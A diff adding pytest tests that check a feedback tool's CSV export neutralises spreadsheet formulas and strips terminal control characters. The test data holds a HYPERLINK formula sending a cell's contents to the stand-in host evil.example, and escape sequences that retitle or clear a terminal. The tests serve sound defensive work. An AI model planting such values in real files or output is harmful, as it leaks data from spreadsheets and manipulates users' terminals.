@@ -5,7 +5,9 @@ from __future__ import annotations
 import csv
 import io
 import json
+import sqlite3
 import time
+import unicodedata
 from pathlib import Path
 
 import pytest
@@ -132,3 +134,44 @@ def test_bad_arguments_and_a_missing_database_are_one_line(
     assert result.returncode == 1
     assert result.stderr.startswith(message) and result.stderr.count("\n") == 1, result.stderr
     assert "Traceback" not in result.stderr
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Klik hier")', "\t=1+1", "+31 6 1234", "-2+3", "@SUM(A1)", "\r=2"]
+
+
+def test_the_csv_neutralises_spreadsheet_formulas_and_quotes_every_cell(tmp_path: Path) -> None:
+    feedback = Feedback(tmp_path / "feedback.sqlite3", now=Clock(time.time()))
+    for message, question in enumerate(FORMULAS, start=1):
+        feedback.record(1, message, question=question, outcome="refused", lang="nl")
+    out = io.StringIO()
+    stats.write_csv(stats.build(feedback, 7), out)
+    written = out.getvalue()
+    rows = list(csv.reader(io.StringIO(written, newline="")))
+    quoted = io.StringIO()
+    csv.writer(quoted, quoting=csv.QUOTE_ALL).writerows(rows)
+    assert quoted.getvalue() == written  # every cell quoted
+    items = [r[1] for r in rows if r[0] == "unanswered"]
+    assert len(items) == len(FORMULAS)
+    for item in items:  # what a spreadsheet would run starts with a quote, after any leading space or tab
+        assert item.startswith("'") and item[1:].lstrip()[0] in "=+-@", item
+    assert next(i for i in items if "HYPERLINK" in i).startswith("'=HYPERLINK(")
+
+
+ESCAPES = "\x1b]0;pwned\x07\x1b[2JWat is\nde hoofdstad\tvan\x85Armenië?\x9b31m\x00"
+
+
+def test_control_characters_are_neither_stored_nor_printed(tmp_path: Path) -> None:
+    feedback = Feedback(tmp_path / "feedback.sqlite3", now=Clock(time.time()))
+    feedback.record(1, 1, question=ESCAPES, outcome="refused", lang="nl")
+    ((stored,),) = feedback.rows("SELECT question FROM questions")
+    assert stored == "]0;pwned[2JWat is de hoofdstad van Armenië?31m"  # newline and tab are spaces
+    with sqlite3.connect(feedback.path) as db:  # a row stored before questions were cleaned
+        db.execute("INSERT INTO questions VALUES ('c', 2, ?, ?, 'hedged', 'nl')", (time.time(), ESCAPES + "?"))
+    report = stats.build(feedback, 7)
+    out = io.StringIO()
+    stats.write_csv(report, out)
+    for printed in ("\n".join(stats.lines(report)), "".join(stats.lines(report, "nl")), out.getvalue()):
+        assert "Armenië" in printed
+        controls = {c for c in printed if unicodedata.category(c) == "Cc"} - {"\n", "\r"}
+        assert not controls, controls
+    assert "\r" not in "".join(row[1] for row in csv.reader(io.StringIO(out.getvalue(), newline="")))
